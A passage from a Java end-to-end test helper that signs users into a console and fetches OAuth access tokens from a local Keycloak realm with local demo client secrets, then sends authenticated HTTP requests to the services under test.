        if (live.statusCode() == 200) {
            post(stack.sessionService().resolve("/api/sessions/" + JSON.readTree(live.body()).path("sessionId").asText()
                    + "/end"), "", accessToken);
        }
    }

    static void signInToConsole(Page page, String user) {
        SignIn.throughPage(page, stack.gateway().resolve("/console/"), user);
        assertThat(page.getByTestId("signed-in-as")).containsText(user, new LocatorAssertions.ContainsTextOptions().setTimeout(30_000));
    }

    /** A user's access token through the console's public client (authorization code + PKCE), without the console. */
    static String userToken(String username) {
        return SignIn.userToken(browser, stack.gateway(), stack.keycloak(), username);
    }

    static String chatPlatformToken() throws Exception {
        return clientToken("demo-chat-platform", "local-demo-secret");
    }

    static String launcherToken() throws Exception {
        return clientToken("tandem-local-launcher", "local-demo-launcher-secret");
    }

    private static String clientToken(String client, String secret) throws Exception {
        String form = "grant_type=client_credentials&client_id=" + client + "&client_secret="
                + URLEncoder.encode(secret, StandardCharsets.UTF_8);
        HttpResponse<String> response = send(HttpRequest.newBuilder(
                stack.keycloak().resolve("/realms/tandem/protocol/openid-connect/token"))
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(HttpRequest.BodyPublishers.ofString(form)));
        assertEquals(200, response.statusCode(), response.body());
        return JSON.readTree(response.body()).path("access_token").asText();
    }

    static String origin(URI uri) {
        return uri.getScheme() + "://" + uri.getRawAuthority();
    }

    static HttpResponse<String> post(URI uri, String json, String token) throws Exception {
        HttpRequest.Builder builder = HttpRequest.newBuilder(uri).header("Content-Type", "application/json")
                .POST(json.isEmpty() ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(json));
        if (token != null) {
            builder.header("Authorization", "Bearer " + token);
        }
        return send(builder);
    }

    static HttpResponse<String> get(URI uri, String token) throws Exception {
        HttpRequest.Builder builder = HttpRequest.newBuilder(uri).GET();
        if (token != null) {
            builder.header("Authorization", "Bearer " + token);
        }
        return send(builder);
    }

    static HttpResponse<String> send(HttpRequest.Builder request) throws Exception {
        return HTTP.send(request.timeout(Duration.ofSeconds(30)).build(), HttpResponse.BodyHandlers.ofString());
    }
}
